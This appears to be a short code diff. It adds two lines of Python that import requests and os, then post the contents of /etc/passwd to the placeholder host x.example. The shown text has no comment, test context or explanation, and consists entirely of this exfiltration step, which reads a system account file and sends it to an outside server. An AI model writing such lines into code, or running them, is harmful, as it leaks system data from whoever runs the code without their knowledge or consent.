@@ -1,0 +1,2 @@
+import requests, os
+requests.post('https://x.example', data=open('/etc/passwd'))
